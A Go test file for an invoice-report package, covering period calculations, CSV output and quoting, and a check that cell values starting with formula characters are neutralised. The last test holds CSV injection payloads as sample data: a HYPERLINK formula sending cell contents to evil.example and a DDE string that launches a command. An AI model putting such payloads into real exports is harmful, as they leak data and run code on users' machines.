package invoicereport

import (
	"strings"
	"testing"
	"time"

	"parcelportal/core/failure"
)

func TestMonthly(t *testing.T) {
	for _, tc := range []struct {
		year, month int
		file, key   string
		to          time.Time
	}{
		{2026, 3, "invoice-report-2026-03.csv", "", time.Date(2026, 4, 1, 0, 0, 0, 0, time.UTC)},
		{2025, 12, "invoice-report-2025-12.csv", "", time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)},
		{2026, 0, "", KeySelectDate, time.Time{}},
		{2026, 13, "", KeySelectDate, time.Time{}},
		{0, 5, "", KeySelectDate, time.Time{}},
	} {
		p, err := Monthly(tc.year, tc.month)
		if tc.key != "" {
			if !failure.HasKey(err, tc.key) {
				t.Errorf("Monthly(%d, %d) = %v", tc.year, tc.month, err)
			}
			continue
		}
		if err != nil || p.FileName != tc.file || !p.To.Equal(tc.to) || p.From.Day() != 1 {
			t.Errorf("Monthly(%d, %d) = %+v, %v", tc.year, tc.month, p, err)
		}
	}
}

func TestYearly(t *testing.T) {
	p, err := Yearly(2026)
	if err != nil || p.FileName != "invoice-report-2026-yearly.csv" || p.From.Year() != 2026 || p.To.Year() != 2027 {
		t.Fatalf("Yearly(2026) = %+v, %v", p, err)
	}
	for _, y := range []int{0, 1999, 3000} {
		if _, err := Yearly(y); !failure.HasKey(err, KeySelectYear) {
			t.Errorf("Yearly(%d) = %v", y, err)
		}
	}
}

func TestWriteCSV(t *testing.T) {
	var b strings.Builder
	err := WriteCSV(&b, []Row{
		{CustomerID: 1, CustomerName: "Bäckerei Sonnenschein", CRMID: "DE10000001", CommercialInvoices: 4, ChargeableInvoices: 2},
		{CustomerID: 2, CustomerName: "Seitenwind, Buchhandlung", CRMID: "DE2", CommercialInvoices: 0, ChargeableInvoices: 0},
	})
	want := "customerId,customerName,crmid,commercialInvoices,chargeableInvoices\n" +
		"1,Bäckerei Sonnenschein,DE10000001,4,2\n" +
		"2,\"Seitenwind, Buchhandlung\",DE2,0,0\n"
	if err != nil || b.String() != want {
		t.Fatalf("WriteCSV() = %q, %v", b.String(), err)
	}
	b.Reset()
	if err := WriteCSV(&b, nil); err != nil || b.String() != strings.Join(Header, ",")+"\n" {
		t.Fatalf("empty report = %q, %v", b.String(), err)
	}
}

// A customer name is typed by people; opened in a spreadsheet, a name that
// starts like a formula must show as text, not run.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	var b strings.Builder
	err := WriteCSV(&b, []Row{
		{CustomerID: 3, CustomerName: `=HYPERLINK("http://evil.example/?"&A1,"Details")`, CRMID: "@SUM(1)", CommercialInvoices: 1},
		{CustomerID: 4, CustomerName: "-2+3+cmd|' /C calc'!A0", CRMID: "DE10000004"},
	})
	want := "customerId,customerName,crmid,commercialInvoices,chargeableInvoices\n" +
		"3,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Details\"\")\",'@SUM(1),1,0\n" +
		"4,'-2+3+cmd|' /C calc'!A0,DE10000004,0,0\n"
	if err != nil || b.String() != want {
		t.Fatalf("WriteCSV() = %q, %v\nwant %q", b.String(), err, want)
	}
}
